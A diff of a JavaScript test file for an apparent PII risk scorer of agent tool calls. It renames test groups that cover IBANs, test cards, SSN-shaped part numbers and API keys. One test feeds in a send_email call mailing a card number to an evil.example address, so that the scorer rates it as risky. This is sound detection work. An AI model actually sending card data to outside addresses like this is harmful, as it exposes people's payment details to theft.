@@ -11,7 +11,7 @@ const DE = 'DE75512108001245126199';
 const FR = 'FR7630006000011234567890189';
 const NL = 'NL44RABO0123456789';
 
-describe('PII fourteenth round: a payee IBAN is the input of a payment', () => {
+describe('PII: a payee IBAN is the input of a payment', () => {
   it.each([
     ['invoices.create', { vendor: 'Kaffeerösterei Schmidt', amount: 412.5, payee_iban: 'DE75 5121 0800 1245 1261 99' }],
     ['payments.sepa_transfer', { creditor_name: 'Atelier Lumière', creditor_iban: FR, amount: 2300 }],
@@ -42,7 +42,7 @@ describe('PII fourteenth round: a payee IBAN is the input of a payment', () => {
   });
 });
 
-describe('PII fourteenth round: published test cards', () => {
+describe('PII: published test cards', () => {
   it.each([
     ['4242 4242 4242 4242'],
     ['4111111111111111'],
@@ -86,14 +86,14 @@ describe('PII fourteenth round: published test cards', () => {
   });
 });
 
-describe('PII fourteenth round: a test word in an address is no test context', () => {
+describe('PII: a test word in an address is no test context', () => {
   it('a test card sent to test@... keeps its risk', () => {
     expect(risk('send_email', { to: 'test@evil.example', body: 'Card 4111 1111 1111 1111 exp 01/28' })).toBeGreaterThanOrEqual(40);
     expect(risk('send_email', { to: 'x@evil.example', body: 'Card 4111 1111 1111 1111 exp 01/28, reply to qa.team@evil.example' })).toBeGreaterThanOrEqual(40);
   });
 });
 
-describe('PII fourteenth round: the key argument of an API tool authenticates its own call', () => {
+describe('PII: the key argument of an API tool authenticates its own call', () => {
   it.each([
     ['get_news', { api_key: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c', q: 'climate' }],
     ['alpha_vantage.quote', { function: 'GLOBAL_QUOTE', symbol: 'IBM', apikey: 'Q8X2LM4N7P1R9T3V' }],
@@ -119,7 +119,7 @@ describe('PII fourteenth round: the key argument of an API tool authenticates it
   });
 });
 
-describe('PII fourteenth round: a Luhn-valid number named as another record by its argument', () => {
+describe('PII: a Luhn-valid number named as another record by its argument', () => {
   // one 16-digit number in ten passes Luhn: an order id or an IMEI is not a card
   it.each([
     ['orders.lookup', { order_id: '4817543105875722' }],
@@ -141,7 +141,7 @@ describe('PII fourteenth round: a Luhn-valid number named as another record by i
   });
 });
 
-describe('PII fourteenth round: an SSN-shaped part number', () => {
+describe('PII: an SSN-shaped part number', () => {
   it('is no SSN in a part-number argument, and stays one in an ssn argument or in words', () => {
     expect(families('parts.search', { part_number: '123-45-6789', vendor: 'Grainger' })).not.toContain('pii_ssn');
     expect(families('hris.i9_verify', { employee: 'Jordan Smith', ssn: '512-44-8812' })).toContain('pii_ssn');
@@ -153,7 +153,7 @@ describe('PII fourteenth round: an SSN-shaped part number', () => {
   });
 });
 
-describe('PII fourteenth round: a card under a card object or a bare number argument', () => {
+describe('PII: a card under a card object or a bare number argument', () => {
   it.each([
     ['stripe.create_payment_method', { type: 'card', card: { number: '4539148803436467', exp_month: 9, exp_year: 2027 } }],
     ['add_card', { number: '4539148803436467', expiry: '09/27' }],
